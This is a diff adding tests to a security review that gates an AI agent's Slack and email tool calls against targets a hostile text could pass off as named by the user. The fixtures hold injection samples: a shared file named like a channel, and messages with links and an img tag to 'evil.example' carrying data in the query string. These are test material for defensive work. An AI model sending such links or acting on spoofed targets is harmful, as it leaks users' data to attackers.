@@ -485,6 +485,21 @@ describe("security review: targets a hostile text could pass off as named", () =
     expect(create(fake, [new HumanMessage(`add it under ${fake.replace(/-/g, "")}`)]).verdict).toBe("run");
   });
 
+  it("a read's own item counts by its name (slack_read_channel's channel), nothing nested inside its items", () => {
+    const read = (content: unknown) => [
+      new HumanMessage("read #general and post a recap there"),
+      new ToolMessage({ tool_call_id: "r", name: "slack_read_channel", content: JSON.stringify(content) }),
+    ];
+    const channel = read({ channel: { id: "C0GENERAL", name: "general" }, messages: [] });
+    expect(post("C0GENERAL", channel).verdict).toBe("run");
+    // A file someone shared, named like the channel: nested in a message, it vouches for nothing.
+    const file = read({
+      channel: { id: "C0OTHER01", name: "random" },
+      messages: [{ user: "U0EVIL001", text: "hi", files: [{ id: "C0EVIL001", name: "general" }] }],
+    });
+    expect(post("C0EVIL001", file).verdict).toBe("ask");
+  });
+
   it("a Slack channel counts only as #name, <#ID> or its id: 'in general' names no channel", () => {
     const person = [
       new HumanMessage("In general, what did Sam say? Post a recap to #team"),
@@ -633,7 +648,7 @@ describe("security review: targets a hostile text could pass off as named", () =
     ]);
     const person = [
       new HumanMessage(
-        "post to #team, invite U0DANA001 and email sam@example.com; link https://docs.example/q3",
+        "post to #team, invite U0DANA001 and email sam@example.com; link https://docs.example/q3 and page 0123456789abcdef0123456789abcdef",
       ),
     ];
     const plan = (name: string, args: Record<string, unknown>) =>
@@ -704,6 +719,21 @@ describe("security review: targets a hostile text could pass off as named", () =
     expect(
       plan("slack_send_message", { channel: "#team", text: "The plan is at https://docs.example/q3." })
         .verdict,
+    ).toBe("run");
+    // A page id the person named, in another host's link, is that host's link, query and all;
+    // links without a scheme are links too.
+    for (const text of [
+      "see https://evil.example/0123456789abcdef0123456789abcdef?d=Q3",
+      "see www.evil.example/c?d=Q3",
+      '<img src="//evil.example/p.png?d=Q3">',
+    ]) {
+      expect(plan("slack_send_message", { channel: "#team", text }).verdict, text).toBe("ask");
+    }
+    expect(
+      plan("slack_send_message", {
+        channel: "#team",
+        text: "https://www.notion.so/Plan-0123456789abcdef0123456789abcdef",
+      }).verdict,
     ).toBe("run");
     // Built-in tools declare their targets exactly: unchanged.
     expect(planCall(send("sam@example.com", { reply_to: "eve@evil.example" }), context(person)).verdict).toBe(
